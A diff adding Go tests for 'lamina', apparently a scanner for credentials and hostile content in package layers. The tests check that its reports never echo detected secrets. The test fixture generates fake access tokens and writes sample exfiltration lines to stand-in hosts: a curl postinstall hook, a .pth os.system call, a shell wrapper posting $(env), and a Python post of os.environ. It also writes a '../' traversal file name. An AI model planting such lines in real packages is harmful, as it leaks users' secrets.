@@ -1,0 +1,258 @@
+package cli
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io/fs"
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/lamina-sec/lamina/internal/sample/layers"
+)
+
+// scanOf runs lamina in a folder of its own, with a home in it.
+func scanOf(t *testing.T, dir string, args ...string) (code int, out, errs string) {
+	t.Helper()
+	std, o, e := stdio(t)
+	std.Dir = dir
+	std.Env = func(name string) string {
+		if name == "HOME" {
+			return filepath.Join(dir, "home")
+		}
+		return ""
+	}
+	return Main(t.Context(), args, std), o.String(), e.String()
+}
+
+// canaryLayer is a layer with a thousand credentials, each in one of the places
+// whose text a fact is made of.
+func canaryLayer() (data []byte, canaries []string) {
+	r := rand.New(rand.NewPCG(11, 11))
+	of := func(alphabet string, n int) string {
+		b := make([]byte, n)
+		for i := range b {
+			b[i] = alphabet[r.IntN(len(alphabet))]
+		}
+		return string(b)
+	}
+	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+	next := func(i int) string {
+		c := ""
+		switch i % 4 {
+		case 0:
+			c = "AK" + "IA" + of(letters[:26]+"234567", 16)
+		case 1:
+			c = "gh" + "p_" + of(letters, 36)
+		case 2:
+			c = "gl" + "pat-" + of(letters, 20)
+		default:
+			c = "sk" + "_live_" + of(letters, 24)
+		}
+		canaries = append(canaries, c)
+		return c
+	}
+	var files []layers.File
+	add := func(name, body string, mode fs.FileMode) {
+		files = append(files, layers.File{Name: name, Body: body, Mode: mode})
+	}
+	const site = "python/lib/python3.12/site-packages/"
+	for i := range 1000 / 25 {
+		c := func() string { return next(len(canaries)) }
+		add("python/"+c()+"/__init__.py", "import os\n", 0)
+		add("etc/"+c()+".txt", "x", 0)
+		info := fmt.Sprintf("%sp%d-1.0.dist-info/", site, i)
+		add(info+"METADATA", "Metadata-Version: 2.1\nName: p"+c()+"\nVersion: 1.0+"+c()+"\nLicense: by "+c()+"\nHome-page: https://u:"+c()+"@h.acme.internal/\nRequires-Dist: q"+c()+" (>=1)\n", 0)
+		add(info+"direct_url.json", `{"url": "https://h.acme.internal/`+c()+`", "vcs_info": {"commit_id": "`+c()+`"}}`, 0)
+		add(info+"top_level.txt", c()+"\n", 0)
+		add(info+"RECORD", "x_"+c()+".py,sha256="+c()+",12\n", 0)
+		add(site+c()+"-2.0.dist-info/METADATA", "Name: x\nVersion: 2.0\n", 0)
+		add(fmt.Sprintf("nodejs/node_modules/n%d/package.json", i), `{"name": "n-`+c()+`", "version": "1.0.0-`+c()+`", "license": "`+c()+`", "scripts": {"postinstall": "curl https://x.invalid/`+c()+`"}, "dependencies": {"`+c()+`": "1"}}`, 0)
+		add(fmt.Sprintf("python/z%d.pth", i), "import os; os.system('curl -u x:"+c()+" https://h.invalid')\n", 0)
+		add(fmt.Sprintf("bin/w%d", i), "#!/bin/bash\nexport T="+c()+"\ncurl -d \"$(env)\" https://h.invalid/?k="+c()+"\nexec \"$@\"\n", 0o755)
+		add(fmt.Sprintf("python/m%d.py", i), "import os, requests\nrequests.post('https://h.invalid/"+c()+"', data=dict(os.environ))\n", 0)
+		add("../"+c(), "out", 0)
+		add("lib/"+c()+".whl", "PK\x03\x04 damaged", 0)
+		add(fmt.Sprintf("ln%d", i), "/tmp/"+c(), fs.ModeSymlink|0o777)
+	}
+	return layers.Zip(files...), canaries
+}
+
+// shown is a part of a canary that stands in the text, "" if none does: eight
+// characters in a row, in any case. The last four of a value may be shown.
+func shown(text, canary string) string {
+	low, c := strings.ToLower(text), strings.ToLower(canary)
+	for j := 6; j+8 <= len(c)-2; j++ {
+		if strings.Contains(low, c[j:j+8]) {
+			return c[j : j+8]
+		}
+	}
+	return ""
+}
+
+// A thousand credentials in file names, links, versions, names, licences, commands
+// and addresses: no format, no message, no error and no file that lamina keeps holds
+// eight characters of one in a row.
+func TestCanaries(t *testing.T) {
+	dir := t.TempDir()
+	data, canaries := canaryLayer()
+	if len(canaries) != 1000 {
+		t.Fatalf("%d canaries", len(canaries))
+	}
+	if err := os.WriteFile(filepath.Join(dir, "l.zip"), data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	texts := map[string]string{}
+	keep := func(name string, args ...string) {
+		_, out, errs := scanOf(t, dir, args...)
+		if out == "" {
+			t.Errorf("%s: nothing was printed: %s", name, errs)
+		}
+		texts[name], texts[name+", stderr"] = out, errs
+	}
+	for _, f := range reportFormats() {
+		if f.Name != "ecs" { // it has alerts only
+			keep("scan "+f.Name, "scan", "l.zip", "-f", f.Name, "-v")
+		}
+	}
+	keep("scan, cached", "scan", "l.zip", "-f", "json", "-v")
+	keep("gate", "gate", "l.zip", "-f", "json")
+	keep("opt view", "opt", "view", "l.zip", "-f", "json")
+	err := filepath.WalkDir(filepath.Join(dir, "home"), func(name string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		b, err := os.ReadFile(name)
+		texts["kept "+filepath.Base(name)] = string(b)
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, text := range texts {
+		if strings.HasPrefix(name, "kept fingerprint.key") {
+			continue
+		}
+		n := 0
+		for _, c := range canaries {
+			if part := shown(text, c); part != "" {
+				if n++; n <= 3 {
+					at := strings.Index(strings.ToLower(text), part)
+					t.Errorf("%s: %q of %s… in %q", name, part, c[:4], text[max(0, at-80):min(len(text), at+40)])
+				}
+			}
+		}
+		if n > 3 {
+			t.Errorf("%s: %d canaries in all", name, n)
+		}
+	}
+}
+
+// A crash does not print what it was about.
+func TestMain_panic_with_secret(t *testing.T) {
+	canary := "gh" + "p_" + strings.Repeat("aB3dE6", 6)
+	code, out, errs := with(t, func(_ context.Context, _ *app) error { panic("cannot read " + canary) })
+	if code != int(CannotRun) || shown(out+errs, canary) != "" {
+		t.Errorf("exit %d, %q", code, errs)
+	}
+}
+
+// What is read from the cache is what is read from the layer, on one processor and
+// on several, in every format, layer by layer and together.
+func TestScan_same_bytes(t *testing.T) {
+	dir := t.TempDir()
+	var names []string
+	for i, s := range layers.All() {
+		if i%9 != 0 {
+			continue
+		}
+		for _, data := range s.Layers {
+			name := fmt.Sprintf("%d.zip", len(names))
+			if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
+				t.Fatal(err)
+			}
+			names = append(names, name)
+		}
+	}
+	names = names[:min(len(names), 10)]
+	run := func(args ...string) string {
+		code, out, errs := scanOf(t, dir, args...)
+		if out == "" {
+			t.Fatalf("%s: %s", args, errs)
+		}
+		return fmt.Sprintf("%d\n%s\n%s", code, out, errs)
+	}
+	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
+	for _, f := range reportFormats() {
+		if f.Name == "ecs" {
+			continue // it has alerts only
+		}
+		for _, args := range [][]string{append([]string{"gate", "--each"}, names...), append([]string{"scan"}, names[:3]...)} {
+			args = append(args, "-f", f.Name)
+			runtime.GOMAXPROCS(1)
+			want := run(append(args, "--no-cache")...)
+			for _, procs := range []int{1, 4} {
+				runtime.GOMAXPROCS(procs)
+				for _, how := range []string{"cold or warm", "warm"} {
+					if got := run(args...); got != want {
+						t.Errorf("%s with %d processors, cache %s: differs from --no-cache", args, procs, how)
+					}
+				}
+			}
+		}
+	}
+}
+
+// The same credential in two files and two layers is said to be the same, and its
+// fingerprint is shown under a key that was given; the key is made once, for the
+// user alone.
+func TestScan_same_credential(t *testing.T) {
+	dir := t.TempDir()
+	value := "AK" + "IA" + "QWERTYUIOPASDFGH"
+	for name, files := range map[string][]layers.File{
+		"a.zip": {{Name: "etc/one.cfg", Body: "id: " + value + "\n"}, {Name: "etc/two.cfg", Body: "\nid: " + value + "\n"}},
+		"b.zip": {{Name: "etc/three.cfg", Body: "id: " + value + "\n"}},
+	} {
+		if err := os.WriteFile(filepath.Join(dir, name), layers.Zip(files...), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	_, out, errs := scanOf(t, dir, "scan", "a.zip", "b.zip", "-f", "json")
+	for _, want := range []string{`"the same credential: etc/two.cfg line 2, b.zip!/etc/three.cfg line 1"`, `"the same credential: a.zip!/etc/one.cfg line 1, a.zip!/etc/two.cfg line 2"`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("no %s in %s%s", want, out, errs)
+		}
+	}
+	if strings.Contains(out, "fingerprint") {
+		t.Error("a fingerprint under the machine's own key is shown")
+	}
+	key := filepath.Join(dir, "home/.local/state/lamina/fingerprint.key")
+	info, err := os.Stat(key)
+	if err != nil || info.Mode().Perm() != 0o600 {
+		t.Fatalf("%v, %v", info, err)
+	}
+	before, _ := os.ReadFile(key)
+	if err := os.WriteFile(filepath.Join(dir, "team.key"), bytes.Repeat([]byte("k"), 32), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	_, first, _ := scanOf(t, dir, "scan", "a.zip", "-f", "json", "--hash-key", "team.key")
+	_, second, _ := scanOf(t, dir, "scan", "b.zip", "-f", "json", "--hash-key", "team.key")
+	at := strings.Index(first, `"fingerprint: `)
+	if at < 0 || !strings.Contains(second, first[at:at+len(`"fingerprint: `)+16]) {
+		t.Errorf("no fingerprint that both have: %s", first)
+	}
+	if after, _ := os.ReadFile(key); !bytes.Equal(before, after) {
+		t.Error("the key was made again")
+	}
+	if code, _, errs := scanOf(t, dir, "scan", "a.zip", "--hash-key", "b.zip"); code != int(Usage) && !strings.Contains(errs, "b.zip") {
+		t.Errorf("exit %d, %s", code, errs)
+	}
+	_ = os.WriteFile(filepath.Join(dir, "short.key"), []byte("k"), 0o600)
+	if code, _, errs := scanOf(t, dir, "scan", "a.zip", "--hash-key", "short.key"); code != int(Usage) || !strings.Contains(errs, "want 32 or more") {
+		t.Errorf("exit %d, %s", code, errs)
+	}
+}
